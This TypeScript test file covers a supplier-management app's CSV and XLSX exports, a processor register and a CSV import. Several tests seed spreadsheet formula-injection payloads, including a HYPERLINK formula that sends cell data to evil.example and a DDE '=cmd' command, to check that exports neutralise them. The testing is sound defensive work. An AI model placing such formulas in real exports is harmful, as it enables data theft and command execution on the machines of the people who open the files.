import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import mongoose from 'mongoose';
import { signedInAs, type SignedIn } from '../helpers/agents';
import { resetDatabase } from '../helpers/environment';
import {
  PNG_BYTES,
  auditEvents,
  download,
  flashes,
  follow,
  insertSupplier,
  storedSupplier,
  submit,
  supplierCount,
  textOf,
  upload,
} from './support';

const BOM = Buffer.from([0xef, 0xbb, 0xbf]);

/** The machine columns of the supplier CSV, in order (the import reads the first sixteen). */
const CSV_HEADER = [
  'name',
  'legal_name',
  'registration_id',
  'country',
  'website',
  'services',
  'owner_email',
  'status',
  'criticality',
  'purpose',
  'method',
  'categories',
  'volume',
  'access',
  'destinations',
  'mechanism',
  'inherent_tier',
  'inherent_score',
  'nda_state',
  'nda_expires',
  'dpa_state',
  'dpa_expires',
  'dpa_gaps',
  'next_review',
];

function parseCsv(bytes: Buffer): Record<string, string>[] {
  return parse<Record<string, string>>(bytes.toString('utf8'), { bom: true, columns: true });
}

function csvHeader(bytes: Buffer): string[] {
  const [header = []]: string[][] = parse(bytes.toString('utf8'), { bom: true, to_line: 1 });
  return header;
}

async function loadWorkbook(bytes: Buffer): Promise<ExcelJS.Worksheet> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as Parameters<typeof workbook.xlsx.load>[0]);
  const sheet = workbook.worksheets[0];
  if (!sheet) throw new Error('the workbook has no sheet');
  return sheet;
}

/** A worksheet row as an array of cell texts. */
function rowValues(sheet: ExcelJS.Worksheet, number: number): string[] {
  const row = sheet.getRow(number);
  return Array.from({ length: sheet.columnCount }, (_, index) => row.getCell(index + 1).text);
}

/** Uploads a CSV to the import page; answers with the preview page it leads to (and its address). */
async function previewOf(buyer: SignedIn, csv: string | Buffer, filename = 'suppliers.csv') {
  const response = await upload(
    buyer.agent,
    '/suppliers/import',
    typeof csv === 'string' ? Buffer.from(csv, 'utf8') : csv,
    filename,
  );
  expect(response.status, textOf(response.text).slice(0, 300)).to.equal(303);
  const address = String(response.headers.location);
  expect(address).to.match(/^\/suppliers\/import\/[a-f\d]{32}$/);
  const page = await buyer.agent.get(address);
  expect(page.status).to.equal(200);
  return { address, html: page.text };
}

/** The rows of a preview page: line, name, result and each problem as "column: message". */
function previewRows(html: string): { line: number; name: string; result: string; problems: string[] }[] {
  const body = [...html.matchAll(/<tbody>([\s\S]*?)<\/tbody>/g)].pop()?.[1] ?? '';
  return [...body.matchAll(/<tr class="[^"]*">([\s\S]*?)<\/tr>/g)].map((row) => {
    const cells = [...(row[1] ?? '').matchAll(/<td>([\s\S]*?)<\/td>/g)].map((cell) => cell[1] ?? '');
    return {
      line: Number(textOf(cells[0] ?? '')),
      name: textOf(cells[1] ?? ''),
      result: textOf(cells[2] ?? ''),
      problems: [...(cells[3] ?? '').matchAll(/<p><code>([^<]*)<\/code>([\s\S]*?)<\/p>/g)].map(
        (problem) => `${problem[1] ?? ''}: ${textOf(problem[2] ?? '')}`,
      ),
    };
  });
}

/** The four counts at the top of a preview page. */
function previewCounts(html: string): Record<string, number> {
  const counts: Record<string, number> = {};
  for (const match of html.matchAll(
    /<span class="stat-number">(\d+)<\/span><span class="stat-label">([^<]+)<\/span>/g,
  ))
    counts[match[2] ?? ''] = Number(match[1]);
  return counts;
}

async function importCount(): Promise<number> {
  return mongoose.connection.collection('supplier_imports').countDocuments({});
}

async function supplierNames(): Promise<string[]> {
  const suppliers = await mongoose.connection.collection('suppliers').find({}).toArray();
  return suppliers.map((supplier) => String(supplier.name)).sort();
}

describe('suppliers: CSV export of the list', () => {
  let buyer: SignedIn;

  beforeEach(async () => {
    await resetDatabase();
    buyer = await signedInAs('procurement');
  });

  it('export of a filtered list → exactly those rows, in the machine columns, UTF-8 with a byte-order mark, Chinese intact', async () => {
    await insertSupplier({
      name: '北京华信数据服务有限公司',
      legalName: '北京华信数据服务有限公司',
      registrationId: '91350100M000100Y43',
      country: 'CN',
      services: '客户数据分析',
      status: 'active',
      ownerId: buyer.user.id,
      ownerName: buyer.user.name,
      categories: ['identity_contact', 'financial_account'],
      volume: '100k_1m',
      access: 'holds_copy',
      destinations: ['SG', 'US'],
      mechanism: 'standard_contract',
      criticality: 'high',
      tier: 'high',
      score: 71,
    });
    await insertSupplier({ name: 'Acme Active', status: 'active' });
    await insertSupplier({ name: 'Prospect Co', status: 'prospect' });
    await insertSupplier({ name: 'Suspended Co', status: 'suspended' });

    const response = await download(buyer.agent, '/suppliers/export.csv?status=active');
    expect(response.status).to.equal(200);
    expect(response.headers['content-type']).to.equal('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).to.match(
      /^attachment; filename="suppliers-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(response.body.subarray(0, 3).equals(BOM), 'starts with the UTF-8 byte-order mark').to.equal(true);
    expect(csvHeader(response.body)).to.deep.equal(CSV_HEADER);

    const rows = parseCsv(response.body);
    expect(rows.map((row) => row.name)).to.have.members(['Acme Active', '北京华信数据服务有限公司']);
    expect(rows).to.have.length(2);
    const huaxin = rows.find((row) => row.name === '北京华信数据服务有限公司') ?? {};
    expect(huaxin).to.include({
      name: '北京华信数据服务有限公司',
      legal_name: '北京华信数据服务有限公司',
      registration_id: '91350100M000100Y43',
      country: 'CN',
      services: '客户数据分析',
      owner_email: buyer.user.email,
      status: 'active',
      criticality: 'high',
      categories: 'identity_contact;financial_account',
      volume: '100k_1m',
      access: 'holds_copy',
      destinations: 'SG;US',
      mechanism: 'standard_contract',
      inherent_tier: 'high',
      inherent_score: '71',
      nda_state: 'missing',
      dpa_state: 'missing',
    });
    expect(huaxin.next_review).to.match(/^\d{4}-\d{2}-\d{2}$/);
  });

  it('export of a searched and sorted list → the same rows in the same order', async () => {
    await insertSupplier({ name: 'Acme Beta' });
    await insertSupplier({ name: 'Acme Alpha' });
    await insertSupplier({ name: 'Zeta' });
    const response = await download(buyer.agent, '/suppliers/export.csv?q=ACME&sort=-name');
    expect(parseCsv(response.body).map((row) => row.name)).to.deep.equal(['Acme Beta', 'Acme Alpha']);
  });

  it('formula-like text (=, +, -, @ at the start) → prefixed with an apostrophe; other text left alone', async () => {
    await insertSupplier({
      name: '=HYPERLINK("http://evil.example/steal?d="&A1,"Click")',
      services: '+1 555 0100',
    });
    await insertSupplier({ name: '@SUM(A1:A9)', services: '-2+3' });
    await insertSupplier({ name: 'Plain Name (=not a formula)', services: 'Price: =10' });
    const rows = parseCsv((await download(buyer.agent, '/suppliers/export.csv')).body);
    const byName = new Map(rows.map((row) => [row.name, row]));
    expect(byName.get(`'=HYPERLINK("http://evil.example/steal?d="&A1,"Click")`)?.services).to.equal(
      "'+1 555 0100",
    );
    expect(byName.get("'@SUM(A1:A9)")?.services).to.equal("'-2+3");
    expect(byName.get('Plain Name (=not a formula)')?.services).to.equal('Price: =10');
    expect(
      rows.every((row) => !/^[=+\-@]/.test(row.name ?? '')),
      'no cell starts a formula',
    ).to.equal(true);
  });

  it('each export (CSV, register CSV, register XLSX) → an audit event with its format and number of rows', async () => {
    await insertSupplier({ name: 'One', status: 'active' });
    await insertSupplier({ name: 'Two', status: 'active' });
    await insertSupplier({ name: 'Three', status: 'prospect' });
    const auditor = await signedInAs('auditor');
    expect((await download(auditor.agent, '/suppliers/export.csv?status=active')).status).to.equal(200);
    expect((await download(auditor.agent, '/suppliers/register.csv')).status).to.equal(200);
    expect((await download(auditor.agent, '/suppliers/register.xlsx?status=prospect')).status).to.equal(200);
    const events = await auditEvents('suppliers.export');
    expect(events.map((event) => [event.details?.format, event.details?.rows])).to.deep.equal([
      ['csv', 2],
      ['register-csv', 3],
      ['register-xlsx', 1],
    ]);
    expect(events.every((event) => event.actor?.id === auditor.user.id)).to.equal(true);
    expect(JSON.parse(String(events[0]?.details?.filter))).to.include({ status: 'active' });
  });
});

describe('suppliers: processor register (PIPL Art. 21)', () => {
  beforeEach(resetDatabase);

  async function seedRegister(buyer: SignedIn): Promise<void> {
    await insertSupplier({
      name: '上海云端数据科技有限公司',
      country: 'CN',
      services: 'Cloud hosting',
      status: 'active',
      categories: ['identity_contact', 'medical_health'],
      volume: '10k_100k',
      access: 'holds_copy',
      destinations: ['SG'],
      mechanism: 'standard_contract',
      tier: 'high',
      ownerId: buyer.user.id,
      dpa: {
        state: 'signed',
        effectiveDate: new Date('2026-01-01T00:00:00Z'),
        expiryDate: new Date('2028-12-31T00:00:00Z'),
        gaps: ['DPA-AUDIT-RIGHTS'],
      },
    });
    await insertSupplier({ name: 'Paper Shredding Ltd', status: 'active', categories: ['employment'] });
    await insertSupplier({ name: '=cmd|" /C calc"!A0', status: 'prospect' });
  }

  it('register CSV → one row per supplier with purpose, period, categories, sensitive flag, transfers and DPA state', async () => {
    const buyer = await signedInAs('procurement');
    await seedRegister(buyer);
    const response = await download(buyer.agent, '/suppliers/register.csv');
    expect(response.status).to.equal(200);
    expect(response.headers['content-disposition']).to.match(
      /filename="processor-register-\d{4}-\d{2}-\d{2}\.csv"/,
    );
    expect(response.body.subarray(0, 3).equals(BOM)).to.equal(true);
    const rows = parseCsv(response.body);
    expect(rows).to.have.length(3);
    const cloud = rows.find((row) => row.Supplier === '上海云端数据科技有限公司');
    expect(cloud).to.include({
      'Purpose and services': 'Cloud hosting',
      'Period (agreement)': '2026-01-01 – 2028-12-31',
      'Personal-information categories': 'Identity and contact details; Medical and health',
      'Sensitive PI': 'Yes',
      'Cross-border destinations': 'Singapore',
      'Cross-border mechanism': 'Standard contract (filed)',
      DPA: 'Signed',
      'DPA gaps': 'DPA-AUDIT-RIGHTS',
      'Inherent risk': 'High',
      Status: 'Active',
    });
    const paper = rows.find((row) => row.Supplier === 'Paper Shredding Ltd');
    expect(paper).to.include({
      'Sensitive PI': 'No',
      'Cross-border mechanism': 'No transfer abroad',
      'Period (agreement)': 'No agreement recorded',
      DPA: 'Missing',
    });
    expect(rows.map((row) => row.Supplier)).to.include(`'=cmd|" /C calc"!A0`);
  });

  it('register XLSX for a user whose language is Chinese → Chinese headers, one row per supplier, no formulas', async () => {
    const buyer = await signedInAs('procurement');
    await seedRegister(buyer);
    const auditor = await signedInAs({ role: 'auditor', locale: 'zh-CN' });
    const response = await download(auditor.agent, '/suppliers/register.xlsx');
    expect(response.status).to.equal(200);
    expect(response.headers['content-type']).to.equal(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(response.headers['content-disposition']).to.match(
      /filename="processor-register-\d{4}-\d{2}-\d{2}\.xlsx"/,
    );
    const sheet = await loadWorkbook(response.body);
    expect(sheet.name).to.equal('受托处理者清单');
    const header = rowValues(sheet, 1);
    expect(header.slice(0, 3)).to.deep.equal(['供应商', '法定名称', '注册号']);
    expect(header).to.include.members([
      '处理目的及服务',
      '处理期限（协议）',
      '个人信息类别',
      '敏感个人信息',
      '出境合规路径',
    ]);
    expect(sheet.actualRowCount).to.equal(4);

    const rows = [2, 3, 4].map((number) => rowValues(sheet, number));
    const column = (name: string) => header.indexOf(name);
    const cloud = rows.find((row) => row[0] === '上海云端数据科技有限公司');
    expect(cloud?.[column('敏感个人信息')]).to.equal('是');
    expect(cloud?.[column('固有风险')]).to.equal('高');
    expect(cloud?.[column('出境目的地')]).to.equal('新加坡');
    expect(rows.map((row) => row[0])).to.include(`'=cmd|" /C calc"!A0`);
    for (let number = 1; number <= 4; number++)
      sheet
        .getRow(number)
        .eachCell((cell) => expect(cell.formula, `cell ${cell.address}`).to.equal(undefined));
  });

  it('register with list filters → only the filtered suppliers', async () => {
    const buyer = await signedInAs('procurement');
    await seedRegister(buyer);
    const rows = parseCsv(
      (await download(buyer.agent, '/suppliers/register.csv?status=active&q=shredding')).body,
    );
    expect(rows.map((row) => row.Supplier)).to.deep.equal(['Paper Shredding Ltd']);
  });
});

describe('suppliers: CSV import', () => {
  let buyer: SignedIn;

  beforeEach(async () => {
    await resetDatabase();
    buyer = await signedInAs('procurement');
  });

  it("a file with errors → every row's errors with its line and column, nothing written, and confirming is refused", async () => {
    await insertSupplier({ name: 'Already Here Ltd' });
    const before = await supplierNames();
    const csv = [
      'name,registration_id,country,categories,status,owner_email,volume,website',
      'Good Row Ltd,,SG,identity_contact,active,,lt_1k,https://good.example',
      ',,SG,,,,,',
      'Bad Country Ltd,,XX,identity_contact,prospect,,,',
      'Bad Everything Ltd,,CN,telepathy,retired,nobody@example.test,huge,ftp://files.example',
      'Bad Uscc Ltd,91350100M000100Y40,CN,,,,,',
      'good row ltd,,,,,,,',
    ].join('\n');
    const { address, html } = await previewOf(buyer, csv, 'suppliers with errors.csv');

    expect(previewCounts(html)).to.deep.equal({
      'New suppliers': 1,
      Updated: 0,
      Unchanged: 0,
      'Rows with errors': 5,
    });
    const rows = previewRows(html);
    expect(rows.map((row) => [row.line, row.result])).to.deep.equal([
      [2, 'New'],
      [3, 'Error'],
      [4, 'Error'],
      [5, 'Error'],
      [6, 'Error'],
      [7, 'Error'],
    ]);
    expect(rows[1]?.problems).to.deep.equal(['name: This field is required.']);
    expect(rows[2]?.problems).to.deep.equal(['country: Choose one of the options.']);
    expect(rows[3]?.problems).to.have.members([
      'owner_email: No active user has this email address.',
      'status: Choose one of the options.',
      'website: Enter a web address such as https://example.com.',
      'categories: Choose one of the options.',
      'volume: Choose one of the options.',
    ]);
    expect(rows[4]?.problems).to.deep.equal([
      'registration_id: This is not a valid unified social credit code: check the 18 characters.',
    ]);
    expect(rows[5]?.problems).to.deep.equal(['name: Same supplier as line 2.']);
    expect(textOf(html)).to.include('Nothing can be imported while the file has errors');
    expect(html).not.to.include(`action="${address}/confirm"`);

    const confirm = await submit(buyer.agent, `${address}/confirm`);
    expect(confirm.status).to.equal(303);
    expect(confirm.headers.location).to.equal(address);
    const page = await follow(buyer.agent, confirm);
    expect(flashes(page.text)).to.deep.include({
      type: 'danger',
      text: 'This file still has errors and cannot be imported.',
    });
    expect(await supplierNames()).to.deep.equal(before);
    expect(await auditEvents('suppliers.import')).to.have.length(0);
    expect(await auditEvents('suppliers.create')).to.have.length(0);
  });

  it('a clean file → a preview with counts and nothing saved; confirming creates and updates as previewed', async () => {
    const existingId = await insertSupplier({
      name: 'Existing Logistics',
      registrationId: 'UEN-2019-001',
      services: 'Trucking',
      country: 'SG',
    });
    await insertSupplier({ name: 'Untouched Ltd', services: 'Cleaning' });
    const csv = [
      'name,legal_name,registration_id,country,services,owner_email,status,criticality,purpose,method,categories,volume,access,destinations,mechanism',
      `北京华信数据服务有限公司,北京华信数据服务有限公司,91350100M000100Y43,cn,客户数据分析,${buyer.user.email},onboarding,high,Analytics,Hosted,identity_contact;financial_account,100k_1m,holds_copy,SG; US,standard_contract`,
      'Plain Stationery Co,,,,,,,,,,,,,,',
      'Existing Logistics,,uen-2019-001,,Trucking and warehousing,,,,,,,,,,',
      'Untouched Ltd,,,,,,,,,,,,,,',
    ].join('\r\n');
    const { address, html } = await previewOf(buyer, csv);
    expect(previewCounts(html)).to.deep.equal({
      'New suppliers': 2,
      Updated: 1,
      Unchanged: 1,
      'Rows with errors': 0,
    });
    expect(previewRows(html).map((row) => row.result)).to.deep.equal(['New', 'New', 'Update', 'Unchanged']);
    expect(textOf(html)).to.include('No problems found. Nothing has been saved yet.');
    expect(textOf(html)).to.include('Import 3 suppliers');
    expect(await supplierCount(), 'nothing saved before the confirmation').to.equal(2);

    const confirm = await submit(buyer.agent, `${address}/confirm`);
    expect(confirm.status).to.equal(303);
    expect(confirm.headers.location).to.equal('/suppliers');
    const list = await follow(buyer.agent, confirm);
    expect(flashes(list.text)).to.deep.include({
      type: 'success',
      text: 'Import finished: 2 added, 1 updated, 1 unchanged.',
    });
    expect(await supplierNames()).to.deep.equal([
      'Existing Logistics',
      'Plain Stationery Co',
      'Untouched Ltd',
      '北京华信数据服务有限公司',
    ]);

    const huaxin = await mongoose.connection
      .collection('suppliers')
      .findOne({ name: '北京华信数据服务有限公司' });
    expect(huaxin?.registrationId).to.equal('91350100M000100Y43');
    expect(huaxin?.country).to.equal('CN');
    expect(huaxin?.status).to.equal('onboarding');
    expect(huaxin?.ownerId).to.equal(buyer.user.id);
    expect(huaxin?.dataProfile?.categories).to.deep.equal(['identity_contact', 'financial_account']);
    expect(huaxin?.dataProfile?.destinations).to.deep.equal(['SG', 'US']);
    expect(huaxin?.risk?.inherentTier, 'risk is computed for imported suppliers too').to.equal('critical');
    expect(huaxin?.statusHistory?.[0]).to.include({ to: 'onboarding', reason: 'imported' });
    expect((await storedSupplier(existingId)).services).to.equal('Trucking and warehousing');

    const [event] = await auditEvents('suppliers.import');
    expect(event?.details).to.deep.equal({ create: 2, update: 1, unchanged: 1, error: 0 });
    expect(event?.target?.label).to.equal('suppliers.csv');
  });

  it('importing the same file again → every row unchanged and no duplicate suppliers', async () => {
    const csv = [
      'name,registration_id,country,categories,volume,access,status',
      '深圳腾达科技有限公司,91350100M000100Y43,CN,identity_contact;transactions,10k_100k,remote_read,active',
      'Acme Cloud Ltd,,SG,device_online,lt_1k,none,prospect',
      'Beta Printing,,,,,,',
    ].join('\n');
    const first = await previewOf(buyer, csv);
    expect((await submit(buyer.agent, `${first.address}/confirm`)).status).to.equal(303);
    expect(await supplierCount()).to.equal(3);

    const again = await previewOf(buyer, csv);
    expect(previewCounts(again.html)).to.deep.equal({
      'New suppliers': 0,
      Updated: 0,
      Unchanged: 3,
      'Rows with errors': 0,
    });
    const confirm = await submit(buyer.agent, `${again.address}/confirm`);
    const list = await follow(buyer.agent, confirm);
    expect(flashes(list.text)).to.deep.include({
      type: 'success',
      text: 'Import finished: 0 added, 0 updated, 3 unchanged.',
    });
    expect(await supplierCount()).to.equal(3);
    expect(await auditEvents('suppliers.update')).to.have.length(0);
  });

  it('rows with a known registration id, or without one but a known name in another letter case → updates; blank cells keep what is stored', async () => {
    const acme = await insertSupplier({
      name: 'Acme Data',
      legalName: 'Acme Data Pte. Ltd.',
      registrationId: 'UEN-1',
      services: 'Old services',
      categories: ['identity_contact'],
      volume: '1k_10k',
    });
    const beta = await insertSupplier({
      name: 'Beta Logistics',
      legalName: 'Beta Logistics Co.',
      services: 'Trucks',
      categories: ['identity_contact'],
      volume: 'lt_1k',
    });
    const csv = [
      'name,registration_id,services,legal_name,categories,volume',
      'Acme Data Renamed,uen-1,New services,,,',
      'BETA LOGISTICS,,,,transactions,',
    ].join('\n');
    const { address, html } = await previewOf(buyer, csv);
    expect(previewCounts(html)).to.deep.equal({
      'New suppliers': 0,
      Updated: 2,
      Unchanged: 0,
      'Rows with errors': 0,
    });
    expect((await submit(buyer.agent, `${address}/confirm`)).status).to.equal(303);

    const storedAcme = await storedSupplier(acme);
    expect(storedAcme.name).to.equal('Acme Data Renamed');
    expect(storedAcme.services).to.equal('New services');
    expect(storedAcme.legalName, 'blank cell: kept').to.equal('Acme Data Pte. Ltd.');
    expect(storedAcme.dataProfile.categories, 'blank cell: kept').to.deep.equal(['identity_contact']);
    expect(storedAcme.dataProfile.volume, 'blank cell: kept').to.equal('1k_10k');
    const storedBeta = await storedSupplier(beta);
    expect(storedBeta.name).to.equal('BETA LOGISTICS');
    expect(storedBeta.services).to.equal('Trucks');
    expect(storedBeta.legalName).to.equal('Beta Logistics Co.');
    expect(storedBeta.dataProfile.categories).to.deep.equal(['transactions']);
    expect(storedBeta.dataProfile.volume).to.equal('lt_1k');
    expect(await supplierCount()).to.equal(2);
  });

  it('a row with a registration id for a supplier known only by its name → updates it instead of adding a duplicate', async () => {
    const known = await insertSupplier({ name: 'Gamma Analytics', services: 'Dashboards' });
    const { address, html } = await previewOf(buyer, 'name,registration_id\nGamma Analytics,UEN-GAMMA-7\n');
    expect(previewCounts(html)).to.include({ 'New suppliers': 0, Updated: 1 });
    await submit(buyer.agent, `${address}/confirm`);
    expect(await supplierCount()).to.equal(1);
    expect((await storedSupplier(known)).registrationId).to.equal('UEN-GAMMA-7');
  });

  it('a preview that has gone stale (its registration id taken meanwhile) → confirming imports nothing and says why', async () => {
    const { address } = await previewOf(
      buyer,
      'name,registration_id\nRow A Ltd,UEN-A-1\nRow B Ltd,UEN-B-2\n',
    );
    expect(
      (await submit(buyer.agent, '/suppliers', { name: 'Made Meanwhile', registrationId: 'UEN-B-2' })).status,
    ).to.equal(303);
    const confirm = await submit(buyer.agent, `${address}/confirm`);
    expect(confirm.status).to.be.oneOf([303, 409]);
    expect(await supplierNames(), 'all or nothing').to.deep.equal(['Made Meanwhile']);
  });

  it('a change made between preview and confirm → not undone by the import', async () => {
    const id = await insertSupplier({ name: 'Acme Data', services: 'Old services' });
    const { address } = await previewOf(buyer, 'name,services\nAcme Data,New services\n');
    const edited = await submit(buyer.agent, `/suppliers/${id}`, {
      name: 'Acme Data',
      services: 'Old services',
      contact_name_0: 'Jo Contact',
      contact_email_0: 'jo@acme.example',
    });
    expect(edited.status).to.equal(303);
    expect((await submit(buyer.agent, `${address}/confirm`)).status).to.equal(303);
    const stored = await storedSupplier(id);
    expect(stored.services).to.equal('New services');
    expect(stored.contacts.map((contact) => contact.name)).to.deep.equal(['Jo Contact']);
  });

  it("another buyer opening or confirming someone's preview → 404; the uploader still can", async () => {
    const { address } = await previewOf(buyer, 'name\nPrivate Import Ltd\n');
    const colleague = await signedInAs('procurement');
    const admin = await signedInAs('admin');
    for (const other of [colleague, admin]) {
      const page = await other.agent.get(address);
      expect(page.status).to.equal(404);
      expect(page.text).not.to.include('Private Import Ltd');
      expect((await submit(other.agent, `${address}/confirm`)).status).to.equal(404);
    }
    expect(await supplierCount()).to.equal(0);
    expect((await submit(buyer.agent, `${address}/confirm`)).status, 'the uploader still can').to.equal(303);
    expect(await supplierNames()).to.deep.equal(['Private Import Ltd']);
  });

  it('confirming twice (one after the other, or both at once) → imported once', async () => {
    const one = await previewOf(buyer, 'name\nOnce Only Ltd\n');
    expect((await submit(buyer.agent, `${one.address}/confirm`)).status).to.equal(303);
    const again = await submit(buyer.agent, `${one.address}/confirm`);
    expect(again.status).to.equal(404);
    expect(await supplierNames()).to.deep.equal(['Once Only Ltd']);

    const two = await previewOf(buyer, 'name\nDouble Click Ltd\n');
    const answers = await Promise.all([
      submit(buyer.agent, `${two.address}/confirm`),
      submit(buyer.agent, `${two.address}/confirm`),
    ]);
    expect(answers.map((answer) => answer.status).sort()).to.deep.equal([303, 404]);
    expect(await supplierNames()).to.deep.equal(['Double Click Ltd', 'Once Only Ltd']);
    expect(await auditEvents('suppliers.import')).to.have.length(2);
  });

  it('a PNG (even named .csv) → refused with a message on the import page; nothing stored', async () => {
    const response = await upload(buyer.agent, '/suppliers/import', PNG_BYTES, 'suppliers.csv');
    expect(response.status).to.equal(303);
    expect(response.headers.location).to.equal('/suppliers/import');
    const page = await follow(buyer.agent, response);
    expect(flashes(page.text)).to.deep.equal([
      {
        type: 'danger',
        text: 'This file is not of an accepted kind (CSV, TXT). Files are checked by their content, not their name.',
      },
    ]);
    const db = mongoose.connection.db!;
    expect(await db.collection('fs.files').countDocuments({})).to.equal(0);
    expect(await db.collection('fs.chunks').countDocuments({})).to.equal(0);
    expect(await importCount()).to.equal(0);
  });

  it('an accepted CSV → read and dropped; the file store keeps nothing of it', async () => {
    await previewOf(buyer, 'name\nTransient Ltd\n');
    const db = mongoose.connection.db!;
    expect(await db.collection('fs.files').countDocuments({})).to.equal(0);
    expect(await db.collection('fs.chunks').countDocuments({})).to.equal(0);
  });

  it('a file without a name column, or with only its header line → a file error and nothing to confirm', async () => {
    const noName = await previewOf(buyer, 'company,country\nAcme,SG\n');
    expect(textOf(noName.html)).to.include('The file has no “name” column.');
    expect(noName.html).not.to.include('/confirm"');
    const headerOnly = await previewOf(buyer, 'name,country\n');
    expect(textOf(headerOnly.html)).to.include('The file has no rows below its header line.');
    expect((await submit(buyer.agent, `${headerOnly.address}/confirm`)).status).to.equal(303);
    expect(await supplierCount()).to.equal(0);
  });

  it('template download → the header line of the import columns, and it imports cleanly', async () => {
    const response = await download(buyer.agent, '/suppliers/import/template.csv');
    expect(response.status).to.equal(200);
    expect(response.headers['content-disposition']).to.equal(
      'attachment; filename="supplier-import-template.csv"',
    );
    expect(response.body.subarray(0, 3).equals(BOM)).to.equal(true);
    const text = response.body.toString('utf8').replace(/^\uFEFF/, '');
    expect(text.split('\n')[0]).to.equal(CSV_HEADER.slice(0, 16).join(','));

    const { html } = await previewOf(buyer, response.body, 'template.csv');
    expect(previewCounts(html)).to.deep.equal({
      'New suppliers': 1,
      Updated: 0,
      Unchanged: 0,
      'Rows with errors': 0,
    });
  });

  it('an exported list imported again → every row unchanged (formula-like names and Chinese included)', async () => {
    for (const fields of [
      {
        name: '北京华信数据服务有限公司',
        country: 'CN',
        registrationId: '91350100M000100Y43',
        ownerId: buyer.user.id,
        categories: ['identity_contact', 'financial_account'],
        volume: '10k_100k',
        access: 'holds_copy',
        destinations: ['SG', 'US'],
        mechanism: 'standard_contract',
        services: '数据分析, "dashboards"',
      },
      { name: '=HYPERLINK("http://evil.example","Click")', services: '-minus' },
      { name: 'Plain Co', criticality: 'critical', purpose: 'Line one\nline two' },
    ]) {
      const saved = await submit(buyer.agent, '/suppliers', fields);
      expect(saved.status).to.equal(303);
    }
    const exported = await download(buyer.agent, '/suppliers/export.csv');
    const { html } = await previewOf(buyer, exported.body, 'export.csv');
    expect(previewRows(html).map((row) => [row.name, row.result, row.problems])).to.have.deep.members([
      ['=HYPERLINK("http://evil.example","Click")', 'Unchanged', []],
      ['Plain Co', 'Unchanged', []],
      ['北京华信数据服务有限公司', 'Unchanged', []],
    ]);
    expect(textOf(html)).not.to.include('These columns are not imported');
  });
});
